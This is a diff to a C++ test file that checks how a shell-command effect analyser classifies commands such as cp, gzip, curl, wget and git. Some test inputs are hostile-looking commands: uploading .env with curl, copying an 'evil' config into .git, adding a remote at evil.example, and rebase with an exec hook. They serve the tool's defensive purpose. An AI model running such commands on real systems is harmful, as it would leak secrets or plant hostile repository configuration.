@@ -73,9 +73,9 @@ TEST(ProgramEffectsTest, WritersWriteAndDelete) {
       {"date -f a", "fs.read a; none"},
       {"less -o a b", "fs.write a; fs.read b"},
       {"git hash-object -w a", "fs.read a; git.write ."},
-      {"mv a b c/", "fs.delete a; fs.delete b; fs.write c/"},
+      {"mv a b c/", "fs.delete a; fs.delete b; fs.write c/; fs.write c/a; fs.write c/b"},
       {"cp -r a b", "fs.read a recursive; fs.write b recursive"},
-      {"cp -t d a b", "fs.read a; fs.read b; fs.write d"},
+      {"cp -t d a b", "fs.read a; fs.read b; fs.write d; fs.write d/a; fs.write d/b"},
       {"install -d a b", "fs.write a; fs.write b"},
       {"ln -s a b", "fs.write b"},
       {"touch a", "fs.write a"},
@@ -90,6 +90,75 @@ TEST(ProgramEffectsTest, WritersWriteAndDelete) {
       {"zip a.zip b", "fs.write a.zip; fs.read b"},
       {"gzip a", "fs.delete a; fs.read a; fs.write a.gz"},
       {"shred -u a", "fs.delete a"},
+  });
+}
+
+// RU-53
+TEST(ProgramEffectsTest, PackersWriteTheirOwnNames) {
+  expect_all({
+      {"xz a", "fs.delete a; fs.read a; fs.write a.xz"},
+      {"bzip2 -k a", "fs.read a; fs.write a.bz2"},
+      {"gzip -S .x a", "fs.delete a; fs.read a; fs.write a.x"},
+      {"xz --format=lzma a", "fs.delete a; fs.read a; fs.write ?"},
+      {"gunzip .git/config.gz",
+       "fs.delete .git/config.gz; fs.read .git/config.gz; fs.write .git/config"},
+      {"gunzip a.tgz", "fs.delete a.tgz; fs.read a.tgz; fs.write a.tar"},
+      {"gunzip -N a.gz", "fs.delete a.gz; fs.read a.gz; fs.write ?"},
+      {"gunzip a", "fs.delete a; fs.read a; fs.write ?"},
+      {"gunzip .gz", "fs.delete .gz; fs.read .gz; fs.write ?"},
+      {"gunzip -c a.gz", "fs.read a.gz"},
+      {"gzip --decompress a.gz", "fs.delete a.gz; fs.read a.gz; fs.write a"},
+      {"gzip -r .", "fs.delete . recursive; fs.read . recursive; fs.write . recursive"},
+      {"gunzip -r a.gz",
+       "fs.delete a.gz recursive; fs.read a.gz recursive; fs.write a.gz recursive; fs.write a "
+       "recursive"},
+      {"xz -d a.xz", "fs.delete a.xz; fs.read a.xz; fs.write a"},
+      {"xz -dz a.xz", "fs.delete a.xz; fs.read a.xz; fs.write ?"},
+      {"unxz -S .x a.x", "fs.delete a.x; fs.read a.x; fs.write a"},
+      {"unxz -S .x a.xz", "fs.delete a.xz; fs.read a.xz; fs.write ?"},
+      {"bunzip2 a.bz2", "fs.delete a.bz2; fs.read a.bz2; fs.write a"},
+      {"bunzip2 $X", "fs.delete ?; fs.read ?; fs.write ?; process.exec opaque [expansion]"},
+      {"zstd -d a.zst", "fs.delete a.zst; fs.read a.zst; fs.write a"},
+      {"zstd -d -o b a.zst", "fs.write b; fs.delete a.zst; fs.read a.zst"},
+      {"zstd -d --output-dir-flat .git x/config.zst",
+       "fs.write .git; fs.delete x/config.zst; fs.read x/config.zst; fs.write .git/config"},
+  });
+}
+
+// RU-53
+TEST(ProgramEffectsTest, FilesThatATargetFolderReceivesAreWritten) {
+  expect_all({
+      {"cp evil/config .git/", "fs.read evil/config; fs.write .git/; fs.write .git/config"},
+      {"cp -T evil/config .git/", "fs.read evil/config; fs.write .git/"},
+      {"cp --parents a/b d/", "fs.read a/b; fs.write d/; fs.write d/a/b"},
+      {"cp a .", "fs.read a; fs.write .; fs.write ./a"},
+      {"cp a b", "fs.read a; fs.write b"},
+      {"mkdir d && cp a d", "fs.write d; fs.read a; fs.write d; fs.write d/a"},
+      {"install -m 755 config .git/", "fs.read config; fs.write .git/; fs.write .git/config"},
+      {"ln -f config .git/", "fs.write .git/; fs.write .git/config"},
+      {"cp \"$X\" .git/", "fs.read ?; fs.write .git/; fs.write .git/ below"},
+      {"rsync config .git/",
+       "fs.read config recursive; fs.write .git/ recursive; fs.write .git/config"},
+      {"rsync -aR a/config d/",
+       "fs.read a/config recursive; fs.write d/ recursive; fs.write d/a/config"},
+      {"scp h.example:config .git/",
+       "network.request host=h.example; fs.write .git/; fs.write .git/config"},
+      {"scp 'h.example:*' .git/",
+       "network.request host=h.example; fs.write .git/; fs.write .git/ below"},
+      {"rsync -a --backup-dir=/out --partial-dir=p --temp-dir=t a/ b/",
+       "fs.write /out; fs.write p; fs.write t; fs.read a/ recursive; fs.write b/ recursive"},
+  });
+  EXPECT_EQ(effects_text("mv config .git", {"/w/.git/HEAD"}),
+            "fs.delete config; fs.write .git; fs.write .git/config");
+}
+
+// RU-53
+TEST(ProgramEffectsTest, FilesInListsAreRead) {
+  expect_all({
+      {"tar cf x.tar --add-file=.env", "fs.read .env; fs.write x.tar"},
+      {"tar cf x.tar -T list", "fs.read list; fs.read ?; fs.write x.tar"},
+      {"tar tf x.tar -T list", "fs.read list; fs.read x.tar"},
+      {"zip x.zip -@", "fs.read ?; fs.write x.zip"},
   });
 }
 
@@ -173,6 +242,39 @@ TEST(ProgramEffectsTest, NetworkProgramsNameTheirHosts) {
   });
 }
 
+// RU-53
+TEST(ProgramEffectsTest, CurlAndWgetNameTheirFiles) {
+  const std::string here = "network.request host=localhost; ";
+  expect_all({
+      {"wget -x -nH http://localhost:8000/.git/config",
+       here + "fs.write . recursive; fs.write .git/config"},
+      {"wget -nH --force-directories -P d http://localhost/.git/config",
+       here + "fs.write d recursive; fs.write d/.git/config"},
+      {"wget -x http://localhost/a", here + "fs.write . recursive; fs.write localhost/a"},
+      {"wget -x --cut-dirs=1 http://localhost/a/b",
+       here + "fs.write . recursive; fs.write . below"},
+      {"wget --default-page=config http://localhost/a/", here + "fs.write config"},
+      {"curl 'http://localhost/{.git/config}' -o '#1'", here + "fs.write ?"},
+      {"curl -o 'a#b' localhost", here + "fs.write a#b"},
+      {"curl -O 'http://localhost/{a/b}'", here + "fs.write ?"},
+      {"curl -F 'x=@a,.env' localhost", here + "fs.read a; fs.read .env"},
+      {"curl -F 'x=@\".env\"' localhost", here + "fs.read .env"},
+      {"curl -F 'x=@a;type=t;filename=\"b,c\",\"d;e\"' localhost", here + "fs.read a; fs.read d;e"},
+      {"curl -F 'x=y;headers=@.env' localhost", here + "fs.read .env"},
+      {"curl --form 'a@b=<c,d' localhost", here + "fs.read c,d"},
+      {"curl -F 'mail=ada@h.example' localhost", "network.request host=localhost"},
+      {"curl -T '{a,.env}' localhost", here + "fs.read ?"},
+      {"curl --data-urlen x@.env localhost", here + "fs.read .env"},
+      {"curl --data-urlencode q=a@b localhost", "network.request host=localhost"},
+      {"curl --variable x@.env localhost", here + "fs.read .env"},
+      {"curl --variable x=a@b localhost", "network.request host=localhost"},
+      {"curl --proxy-header @f localhost", here + "fs.read f"},
+      {"curl --expand-output '{{x}}' localhost",
+       "network.request host=?; network.request host=localhost; process.exec opaque "
+       "[configuration]"},
+  });
+}
+
 // RU-53, RU-54
 TEST(ProgramEffectsTest, GitBySubcommand) {
   expect_all({
@@ -225,6 +327,68 @@ TEST(ProgramEffectsTest, GitBySubcommand) {
   });
 }
 
+// RU-53, RU-54
+TEST(ProgramEffectsTest, GitWritesWhereItsOptionsSay) {
+  expect_all({
+      {"git clean -n --no-dry-run -f", "git.discard ."},
+      {"git clean -n --no-dry -f", "git.discard ."},
+      {"git clean -fdx", "git.discard ."},
+      {"git clean -ndx", "fs.read . recursive"},
+      {"git diagnose -o /home/user", "fs.write /home/user; git.write ."},
+      {"git diagnose", "fs.write .; git.write ."},
+      {"git branch -v newb", "git.write ."},
+      {"git branch -a newb", "git.write ."},
+      {"git branch -vv", "fs.read . recursive"},
+      {"git branch -a", "fs.read . recursive"},
+      {"git branch -r --contains HEAD", "fs.read . recursive"},
+      {"git tag -a v1 -F msg", "fs.read msg; git.write ."},
+      {"git tag", "fs.read . recursive"},
+      {"git tag -n3", "fs.read . recursive"},
+      {"git tag -v v1", "fs.read . recursive"},
+      {"git merge-file /home/user/.bashrc base other",
+       "fs.read /home/user/.bashrc; fs.write /home/user/.bashrc; fs.read base; fs.read other; "
+       "git.write ."},
+      {"git merge-file -p -L x a b c", "fs.read a; fs.read b; fs.read c; git.write ."},
+      {"git pack-objects /home/user/x", "fs.write /home/user/x; git.write ."},
+      {"git read-tree --index-output=/home/user/x HEAD", "fs.write /home/user/x; git.write ."},
+      {"git apply --index p", "fs.read p; git.write ."},
+      {"git maintenance register --config-file=/home/user/x", "fs.write /home/user/x; git.write ."},
+      {"git maintenance register", "fs.write /home/user/.gitconfig; git.write ."},
+      {"git maintenance run", "git.write ."},
+      {"git maintenance start",
+       "process.exec opaque; fs.write /home/user/.gitconfig; git.write . [configuration]"},
+      {"git remote add -f x http://evil.example/",
+       "network.request host=evil.example; git.write ."},
+      {"git remote add x http://evil.example/", "git.write ."},
+      {"git remote set-head origin -a", "network.request host=?; git.write ."},
+      {"git cherry-pick -x abc", "git.write ."},
+      {"git rebase --exe 'rm x' main", "process.exec opaque; git.write . [configuration]"},
+      {"git rebase main", "git.write ."},
+  });
+}
+
+// RU-53
+TEST(ProgramEffectsTest, GitPrintsTheFilesThatItsOperandsName) {
+  expect_all({
+      {"git grep --no-index -h '' .env", "fs.read . recursive; fs.read .env recursive"},
+      {"git grep -n .env", "fs.read . recursive"},
+      {"git grep -n -e x -- ':(glob)**/.env'", "fs.read . recursive; fs.read **/.env recursive"},
+      {"git grep -f list", "fs.read . recursive; fs.read list"},
+      {"git show HEAD:.env", "fs.read . recursive; fs.read .env recursive"},
+      {"git show :0:.env", "fs.read . recursive; fs.read .env recursive"},
+      {"git cat-file -p HEAD:a/.env", "fs.read . recursive; fs.read a/.env recursive"},
+      {"git blame -n -e -C .env", "fs.read . recursive; fs.read .env recursive"},
+      {"git diff HEAD -- .env",
+       "fs.read . recursive; fs.read HEAD recursive; fs.read .env recursive"},
+      {"git log -p -- :/.env", "fs.read . recursive; fs.read .env recursive"},
+      {"git log -L1,5:.env", "fs.read . recursive; fs.read .env"},
+      {"git log -n 5 --author ada", "fs.read . recursive"},
+      {"git diff -U .env", "fs.read . recursive; fs.read .env recursive"},
+      {"git diff -- . ':!package-lock.json'",
+       "fs.read . recursive; fs.read :!package-lock.json recursive"},
+  });
+}
+
 // RU-53
 TEST(ProgramEffectsTest, PackageManagersBySubcommand) {
   expect_all({
@@ -235,7 +399,7 @@ TEST(ProgramEffectsTest, PackageManagersBySubcommand) {
       {"npm ls", "none"},
       {"npm publish", "package.publish"},
       {"npm --prefix x install", "package.install"},
-      // Spellings and beginnings that npm takes for the whole. One of something harmless is not.
+      // Spellings and prefixes that npm accepts. A prefix of a harmless word does not count.
       {"npm isntall x", "package.install"},
       {"npm distTag add x y", "package.publish"},
       {"npm publ", "package.publish"},
@@ -292,7 +456,7 @@ TEST(ProgramEffectsTest, InterpretersAndBuiltins) {
   });
 }
 
-// RU-31: every row of the table is a row that the reader finds and that prints as data.
+// RU-31: the reader finds every row of the table, and every row prints as data.
 TEST(ProgramEffectsTest, RowsHaveNamesOfTheirOwn) {
   std::set<std::string_view> seen;
   for (const Program& row : programs()) {
